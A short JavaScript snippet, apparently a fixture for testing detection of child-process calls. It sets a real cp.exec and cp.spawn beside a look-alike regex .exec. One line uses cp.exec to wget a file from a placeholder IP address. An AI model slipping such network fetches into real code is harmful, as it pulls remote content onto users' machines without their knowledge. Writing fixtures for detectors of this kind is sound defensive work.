const cp = require('child_process');
cp.exec("wget http://192.0.2.1/b");
/a(b)/.exec("no process");
cp.spawn('node', ['bundle.js', arg]);
